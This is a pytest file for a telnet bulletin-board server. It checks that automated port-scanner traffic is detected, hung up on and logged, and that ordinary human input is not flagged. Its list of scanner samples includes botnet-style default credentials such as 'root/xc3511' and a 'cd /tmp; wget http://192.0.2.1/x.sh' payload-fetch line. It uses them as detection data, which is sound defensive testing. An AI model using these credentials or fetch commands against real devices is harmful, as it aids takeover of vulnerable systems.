"""Programs that knock at every port, and people who only sound a little like them."""

import asyncio
import logging

import pytest
from effort import PATIENCE
from wire import TTYPE, TelnetClient, telnet_board

from door.net.telnet.server import LISTENED, is_program

PROGRAMS = [
    b"GET / HTTP/1.1\r\nHost: x\r\n\r\n", b"OPTIONS sip:nm SIP/2.0\r\n", b"SSH-2.0-Go\r\n",
    b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", b"\x03\x00\x00\x13\x0e\xe0", b"EHLO scanner\r\n",
    b"root\r\nxc3511\r\nenable\r\nsystem\r\nshell\r\nsh\r\n", b"admin\r\nadmin\r\nsh\r\n", b"enable\r\n",
    b"guest\r\n/bin/busybox ECCHI\r\n", b"cd /tmp; wget http://192.0.2.1/x.sh\r\n",
]  # fmt: skip
PEOPLE = [
    b"Alice\r\nopen sesame\r\n1\r\n\r\n", b"root\r\nsecret\r\n", b"NEW\r\nShelly\r\nenabled\r\n", b"sh",
    b"PLAIN\r\nGet Carter\r\n", b"Echo\r\n", b"1 2 3\r\n", b"\x1b[24;80R", b"", b"Startrek\r\n", b"Wget\r\n",
]  # fmt: skip


@pytest.mark.parametrize("said", PROGRAMS)
async def test_a_program_is_hung_up_on_and_logged(said, caplog):
    caplog.set_level(logging.WARNING, "door.net")
    async with telnet_board(connect_seconds=PATIENCE) as (_, port):
        reader, writer = await asyncio.open_connection("127.0.0.1", port)
        try:
            for at in range(0, len(said), 7):
                writer.write(said[at : at + 7])
                await writer.drain()
                await asyncio.sleep(0.001)
            async with asyncio.timeout(PATIENCE):
                while await reader.read(4096):
                    pass
        except ConnectionError:
            pass
        writer.close()
    told = "hang-up telnet from 127.0.0.1: a program, not a caller"
    assert [r.getMessage() for r in caplog.records] == [told]


@pytest.mark.parametrize("said", PEOPLE)
def test_a_person_is_none(said):
    assert not is_program(said)


async def test_whoever_tells_a_terminal_may_say_anything():
    async with telnet_board() as (board, port):
        client = await TelnetClient({TTYPE}).call(port)
        await client.see(b"> ")
        client.send(b"enable\r\0GET / HTTP/1.1\r\0")
        assert await board.typed(22) == b"enable\rGET / HTTP/1.1\r"
        client.hang_up()


async def test_only_the_beginning_of_a_call_is_listened_to():
    async with telnet_board() as (board, port):
        _, writer = await asyncio.open_connection("127.0.0.1", port)
        writer.write(b"x" * LISTENED + b"\r\n")
        await board.typed(LISTENED + 1)
        writer.write(b"enable\r\n")
        assert await board.typed(7) == b"enable\r"
        writer.close()
